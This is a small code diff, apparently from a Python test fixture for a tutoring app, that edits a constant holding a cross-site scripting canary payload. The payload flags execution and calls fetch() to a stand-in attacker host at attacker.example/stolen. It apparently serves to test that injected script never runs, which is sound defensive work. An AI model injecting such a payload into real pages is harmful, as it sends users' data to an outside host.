@@ -27,7 +27,7 @@ ANSWERS: dict[str, dict[str, Any]] = {
 }
 WRITTEN = "Records help *everyone* who deals with the customer after us."
 
-HIT = "window.hit=1;document.title='hit';fetch('//attacker.example/stolen')"
+HIT = "window.hit=1;document.title='hit';fetch('https://attacker.example/stolen')"
 """What a script does in the tutor's browser, if it ever runs."""
 
 
